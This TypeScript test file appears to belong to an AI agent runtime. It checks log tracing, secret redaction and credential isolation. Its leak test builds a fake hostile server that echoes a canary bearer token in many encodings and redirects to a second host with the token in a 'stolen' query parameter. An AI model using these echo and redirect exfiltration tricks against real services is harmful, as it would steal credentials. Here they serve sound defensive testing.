import { readdir, readFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import { expect, test } from "vitest";
import * as z from "zod";
import type { LogLine } from "../../scripts/local/runtime.ts";
import { createAccount } from "../support/client.ts";
import { byStep, call, callsTools, finishes } from "../support/model-server/behaviour.ts";
import { startModelServer } from "../support/model-server/server.ts";
import { startReceiver } from "../support/receiver.ts";
import { startTestRuntime } from "../support/runtime.ts";
import { startServer } from "../support/server.ts";
import { folderUntilEnd, untilEnd } from "../support/until-end.ts";
import { githubRequest, hookAnswer, Webhooks } from "../support/webhooks.ts";

const CALLBACK_SECRET = "planted-callback-secret";
const ENDPOINT_SECRET = "planted-endpoint-secret";

const written: LogLine[] = [];
const receiver = await untilEnd(startReceiver());
const model = await untilEnd(startModelServer());
const state = await folderUntilEnd();
const runtime = await startTestRuntime({
  variables: { OPENAI_BASE_URL: model.baseUrl },
  state,
  onLog: (line) => written.push(line),
});
const client = await createAccount(runtime);
const webhooks = new Webhooks(runtime, client.apiKey);

const line = z.looseObject({ level: z.enum(["info", "warn", "error"]), event: z.string() });

/** The lines of these fields, once there are as many. */
async function told(fields: Record<string, unknown>, count = 1) {
  const matching = () =>
    written
      // The runtime's own words are no JSON.
      .filter(({ message }) => message.startsWith("{"))
      .map(({ message }) => line.parse(JSON.parse(message)))
      .filter((one) => Object.entries(fields).every(([name, value]) => one[name] === value));
  await expect
    .poll(() => matching().length, { timeout: 30_000, message: JSON.stringify(fields) })
    .toBeGreaterThanOrEqual(count);
  return matching();
}

test("an operator can follow an execution from its request to its callback", async () => {
  receiver.answerWith(({ attempt }) => (attempt === 1 ? 500 : 200));
  const executionId = await client.trigger({
    prompt: "Run ```\nreturn 2 + 3; // planted-prompt\n```",
    inputs: { note: "planted-input" },
    callbackUrl: `${receiver.url}?token=planted-in-url`,
    callbackSecret: CALLBACK_SECRET,
    metadata: { note: "planted-metadata" },
  });
  await client.ended(executionId);
  const { accountId } = client;
  await told({ event: "request", route: "/api/v1/agent/trigger", status: 202, executionId });
  const [end] = await told({ event: "execution", executionId });
  const { creditsConsumed } = await client.result(executionId);
  const model = "builtin/demo";
  expect(end).toMatchObject({ accountId, model, status: "completed", credits: creditsConsumed });
  const [failed] = await told({ event: "callback", executionId, outcome: "failed" });
  expect(failed).toMatchObject({ attempt: 1, status: 500 });
  const [again] = await told({ event: "callback", executionId, outcome: "delivered" });
  expect(again).toMatchObject({ attempt: 2, status: 200 });
});

test("an operator can follow a webhook to its execution, and sees why one was refused", async () => {
  const workflowId = await webhooks.workflow({
    name: "n",
    prompt: "Run ```return 2 + 3;```",
    inputs: [],
  });
  const auth = { hmac: { preset: "github" as const, secret: ENDPOINT_SECRET } };
  const { endpointId, url } = await webhooks.endpoint({ name: "n", workflowId, auth });
  const body = JSON.stringify({ text: "planted-payload" });
  const hook = `${url}?planted-query=1`;
  const taken = await fetch(hook, githubRequest(ENDPOINT_SECRET, body));
  const { executionId } = hookAnswer.parse(await taken.json());
  await fetch(hook, githubRequest("planted-wrong-secret", body));
  await webhooks.read(endpointId);
  const route = "/hooks/*";
  const { accountId } = client;
  const [accepted] = await told({ event: "request", route, status: 202, executionId, accountId });
  const [refused] = await told({ event: "request", route, code: "unauthorized", status: 401 });
  expect(refused).not.toHaveProperty("executionId");
  expect(accepted?.endpointId).toBe(refused?.endpointId);
  expect(endpointId.startsWith(String(accepted?.endpointId))).toBe(true);
  expect(await told({ event: "execution", executionId })).toMatchObject([
    { origin: "webhook", workflowId, status: "completed" },
  ]);
  await told({ event: "request", route: "/api/v1/webhooks/:endpointId" });
  const text = written.map(({ message }) => message).join("\n");
  expect(text).not.toContain(endpointId);
});

test("no line of the service has a secret, a prompt or a payload", async () => {
  const text = written.map(({ message }) => message).join("\n");
  expect(text).toContain(client.accountId);
  for (const planted of ["planted", client.apiKey, runtime.adminToken, receiver.url]) {
    expect(text).not.toContain(planted);
  }
});

const CANARY = "cAnary-7f3/Qz+9w~k2X";
const VALUE = `Bearer ${CANARY}`;

const base64 = (text: string) => Buffer.from(text).toString("base64");
const hex = (text: string) => Buffer.from(text).toString("hex");
const reversed = (text: string) => [...text].reverse().join("");

/** What the attacked service answers, by path, with the credential that it got. */
const ECHOES: Record<string, (value: string) => { type: string; body: string }> = {
  plain: (value) => ({ type: "text/plain", body: `You sent ${value}.` }),
  json: (value) => ({ type: "application/json", body: JSON.stringify({ headers: { value } }) }),
  html: (value) => ({ type: "text/html", body: `<h1>Hello</h1><p>You are <b>${value}</b>.</p>` }),
  base64: (value) => ({ type: "text/plain", body: base64(`x${value}`) }),
  hex: (value) => ({ type: "text/plain", body: hex(value).toUpperCase() }),
  url: (value) => ({ type: "text/plain", body: encodeURIComponent(value) }),
  reversed: (value) => ({ type: "text/plain", body: reversed(value) }),
  escaped: (value) => ({
    type: "application/json",
    body: `{"value":"${[...value].map((c) => `\\u00${hex(c)}`).join("")}"}`,
  }),
  utf16: (value) => ({ type: "text/plain; charset=utf-16le", body: `${value}` }),
  cut: (value) => ({ type: "text/plain", body: "x".repeat(2 * 1024 * 1024 - 20) + value }),
};

const seen: { path: string; value: string | undefined }[] = [];
const leaked: (string | undefined)[] = [];

function answer(request: IncomingMessage, response: ServerResponse): void {
  const url = new URL(request.url ?? "/", "http://site");
  const value = request.headers.authorization;
  seen.push({ path: url.pathname, value });
  const name = url.pathname.slice(1);
  if (name === "redirect") {
    response.writeHead(302, { location: `${other.origin}/?stolen=${value}` }).end();
    return;
  }
  const { type, body } = ECHOES[name]?.(value ?? "") ?? { type: "text/plain", body: "?" };
  const encoding = name === "utf16" ? "utf16le" : "utf8";
  response.writeHead(200, { "content-type": type, "x-echo": value ?? "" });
  response.end(Buffer.from(body, encoding));
}

const site = await untilEnd(startServer(answer));
const other = await untilEnd(
  startServer((request, response) => {
    leaked.push(request.headers.authorization, request.url?.includes("stolen") ? VALUE : undefined);
    response.end(request.url);
  }),
);

test("a connection's credential is only in the requests to its hosts, even if they echo it", async () => {
  const connection = { name: "crm", hosts: [site.host], header: "Authorization", value: VALUE };
  const made = await fetch(`${runtime.url}/api/v1/connections`, {
    method: "POST",
    headers: { Authorization: `Bearer ${client.apiKey}`, "Content-Type": "application/json" },
    body: JSON.stringify(connection),
  });
  expect(made.status).toBe(201);

  const paths = [...Object.keys(ECHOES), "redirect"];
  const requests = paths.map((path) =>
    call("http_request", { method: "GET", url: `${site.origin}/${path}` }, path),
  );
  model.script(
    "attacked",
    byStep(
      callsTools(...requests),
      callsTools(
        call("browse", { url: `${site.origin}/html` }, "page"),
        call("browse", { url: `${other.origin}/` }, "elsewhere"),
        call("http_request", { method: "POST", url: `${site.origin}/json`, body: {} }, "post"),
      ),
      callsTools(
        call("emit_output", { label: "All", type: "json", from: "json" }, "out"),
        call("run_code", { code: "return input", from: ["plain"] }, "code"),
      ),
      finishes("Done."),
    ),
  );
  const id = await client.trigger({
    prompt: "Do it.",
    model: "openai/attacked",
    connections: ["crm"],
    callbackUrl: receiver.url,
  });
  await client.ended(id);
  await receiver.received(({ body }) => body.executionId === id);

  const got = new Set(seen.filter(({ value }) => value === VALUE).map(({ path }) => path));
  expect([...got].sort()).toEqual(paths.map((path) => `/${path}`).sort());
  expect(leaked.length).toBeGreaterThan(0);
  expect(leaked.every((value) => value === undefined)).toBe(true);

  const result = JSON.stringify(await client.result(id));
  const events = JSON.stringify(await client.events(id));
  expect(events).toContain("[redacted]");
  const prompts = JSON.stringify(model.requests.map(({ body }) => body));
  expect(prompts).toContain("[redacted]");
  await runtime.close();
  const places = {
    prompts,
    events,
    result,
    callbacks: JSON.stringify(receiver.deliveries),
    logs: JSON.stringify(written),
    ...(await filesIn(state)),
  };
  for (const [place, text] of Object.entries(places)) {
    for (const [form, needle] of Object.entries(FORMS)) {
      expect(text.includes(needle), `${form} in ${place}`).toBe(false);
    }
  }
});

/** The forms in which the credential is looked for; of the cut answer, its beginning. */
const FORMS = {
  plain: CANARY,
  escaped: JSON.stringify(CANARY).slice(1, -1),
  beginning: CANARY.slice(0, 9),
  reversed: reversed(CANARY),
  base64: base64(`xBearer ${CANARY}`).slice(8, -4),
  hex: hex(CANARY),
  HEX: hex(CANARY).toUpperCase(),
  url: encodeURIComponent(CANARY),
  utf16: Buffer.from(CANARY, "utf16le").toString("latin1"),
};

/** All files of the databases, objects and queues, byte by byte. */
async function filesIn(folder: string): Promise<Record<string, string>> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile());
  expect(files.length).toBeGreaterThan(3);
  const texts = files.map(async ({ parentPath, name }) => {
    const path = join(parentPath, name);
    return [path, await readFile(path, "latin1")] as const;
  });
  return Object.fromEntries(await Promise.all(texts));
}
